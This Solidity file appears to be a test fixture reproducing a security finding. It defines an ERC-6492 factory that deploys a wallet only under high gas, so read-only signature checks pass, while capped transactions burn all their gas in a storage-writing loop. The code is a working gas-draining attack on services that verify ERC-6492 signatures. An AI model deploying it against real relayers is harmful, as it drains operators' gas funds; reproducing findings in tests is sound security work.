// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

import {TestWallet} from "./TestWallet.sol";

/// An ERC-6492 factory that deploys a TestWallet (at the address TestWalletFactory would use for it) only when
/// called with more gas than `deployAbove`, set above the service's MAX_GAS_PER_TX, and otherwise writes storage
/// until little gas is left (issue 23, finding 2). A read-only call with the node's default gas (the ERC-6492
/// validator's eth_call) deploys the wallet and proves the signature; a transaction capped at MAX_GAS_PER_TX burns
/// its gas and deploys nothing. `requireAbove` makes the gas estimate (the lowest gas that does not revert) about
/// that much, so the service sends a transaction that large.
contract GasDrainFactory {
    uint256 public immutable deployAbove;
    uint256 public immutable requireAbove;
    uint256 public burns;
    mapping(uint256 => uint256) private sink;

    constructor(uint256 deployAbove_, uint256 requireAbove_) {
        deployAbove = deployAbove_;
        requireAbove = requireAbove_;
    }

    function deploy(address owner, bytes32 salt) external returns (address wallet) {
        require(gasleft() > requireAbove, "more gas");
        wallet = predict(owner, salt);
        if (wallet.code.length > 0) return wallet;
        if (gasleft() > deployAbove) return address(new TestWallet{salt: salt}(owner));
        uint256 slot = burns++ << 128;
        while (gasleft() > 30_000) sink[slot++] = 1;
    }

    function predict(address owner, bytes32 salt) public view returns (address) {
        bytes32 codeHash = keccak256(abi.encodePacked(type(TestWallet).creationCode, abi.encode(owner)));
        return address(uint160(uint256(keccak256(abi.encodePacked(bytes1(0xff), address(this), salt, codeHash)))));
    }
}
